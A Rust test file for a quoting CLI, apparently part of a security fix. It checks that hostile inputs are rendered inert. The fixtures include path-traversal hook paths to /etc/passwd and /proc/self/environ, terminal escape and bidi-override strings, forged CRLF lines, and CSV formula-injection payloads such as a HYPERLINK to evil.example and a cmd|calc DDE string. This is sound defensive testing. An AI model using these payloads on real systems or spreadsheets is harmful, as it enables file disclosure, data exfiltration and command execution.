//! Hostile text and paths from plans, hooks and books (issue 10), each with its input as a
//! fixture under tests/fixtures/security/: nothing reaches a terminal, a document or a
//! spreadsheet as anything but inert text, and no hook is read from outside the plan's
//! folder.

mod common;

use common::Test;

const DIR: &str = "tests/fixtures/security";

fn check(name: &str) -> String {
    let out = Test::new()
        .args(&["check", &format!("{DIR}/{name}")])
        .env("NO_COLOR", "1")
        .run()
        .status(1);
    out.stderr
}

#[test]
fn hooks_named_by_absolute_or_escaping_paths_are_refused_without_their_content() {
    for (fixture, path, reason) in [
        (
            "hook-absolute.rate",
            "/etc/passwd",
            "a hook's path must be relative to the plan's folder, not absolute",
        ),
        (
            "hook-escape.rate",
            "../../../../etc/passwd",
            "a hook's path may not leave the plan's folder (`..`)",
        ),
        (
            "hook-proc.rate",
            "/proc/self/environ",
            "a hook's path must be relative to the plan's folder, not absolute",
        ),
    ] {
        let err = check(fixture);
        // The message as one line: the renderer wraps it at the terminal's width.
        let words: Vec<&str> = err.split_whitespace().filter(|w| *w != "│").collect();
        let one_line = words.join(" ");
        assert!(
            one_line.contains(&format!("cannot read hook script `{path}`: {reason}")),
            "{fixture}: {err}"
        );
        // Nothing of the file itself is shown: not a user line, not an environment variable.
        assert!(!err.contains("root:"), "{fixture}: {err}");
        assert!(!err.contains("PATH="), "{fixture}: {err}");
    }
}

#[test]
fn a_hooks_notes_cannot_send_escapes_forge_lines_or_reorder_text() {
    let out = Test::new()
        .args(&[
            "quote",
            &format!("{DIR}/noisy.rate"),
            "--edition",
            "basic",
            "--seats",
            "1",
        ])
        .run()
        .status(0);
    let notes: Vec<&str> = out
        .stdout
        .lines()
        .filter(|l| l.starts_with("note:"))
        .collect();
    assert_eq!(
        notes,
        [
            r"note: hook rules/noisy.rhai: \u{1b}]0;pwned\u{7}\u{1b}[2Jcleared",
            r"note: hook rules/noisy.rhai: ok\u{d}\u{a}fake: approval granted",
            r"note: hook rules/noisy.rhai: price \u{202e}00.001",
        ]
    );
    assert!(!out.stdout.contains('\u{1b}'));
    assert!(!out.stdout.lines().any(|l| l.starts_with("fake:")));
    // JSON keeps the exact text: its quoting makes it inert.
    let json = Test::new()
        .args(&[
            "quote",
            &format!("{DIR}/noisy.rate"),
            "--edition",
            "basic",
            "--seats",
            "1",
            "--format",
            "json",
        ])
        .run()
        .status(0)
        .json();
    assert_eq!(
        json["notes"][1],
        "hook rules/noisy.rhai: ok\r\nfake: approval granted"
    );
}

#[test]
fn a_plans_labels_are_shown_escaped_in_documents() {
    let out = Test::new()
        .args(&[
            "quote",
            &format!("{DIR}/label-escapes.rate"),
            "--edition",
            "basic",
            "--seats",
            "1",
            "--format",
            "markdown",
        ])
        .run()
        .status(0);
    let head: Vec<&str> = out.stdout.lines().take(5).collect();
    assert_eq!(
        head,
        [
            r"### evil\u{1b}\]0;pwned\u{7} 1 (USD)",
            "",
            "| Line | Billed | Qty | Unit price | Amount | How |",
            "|---|---|---:|---:|---:|---|",
            r"| Basic\u{1b}\[2J\u{202e} seats | monthly | 1 | 20.00 | 20.00 | 1 seat x 20.00 |",
        ]
    );
}

#[test]
fn customer_names_that_would_be_formulas_are_inert_in_the_csv_and_amounts_stay_numbers() {
    Test::new()
        .args(&["batch", "examples/acme.rate", &format!("{DIR}/hostile-book.csv")])
        .run()
        .status(0)
        .stdout(
            "customer,monthly_recurring,one_time,first_invoice_total,term_total_with_tax,status,message
\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"Click\"\")\",120.00,0.00,127.20,1526.40,ok,
'+1+cmd|' /C calc'!A0,120.00,0.00,127.20,1526.40,ok,
'-2+3,120.00,0.00,127.20,1526.40,ok,
'@SUM(A1:A9),120.00,0.00,127.20,1526.40,ok,
'=1+1,120.00,0.00,127.20,1526.40,ok,
'=1+1,120.00,0.00,127.20,1526.40,ok,
Plain Customer,120.00,0.00,127.20,1526.40,ok,
",
        );
}
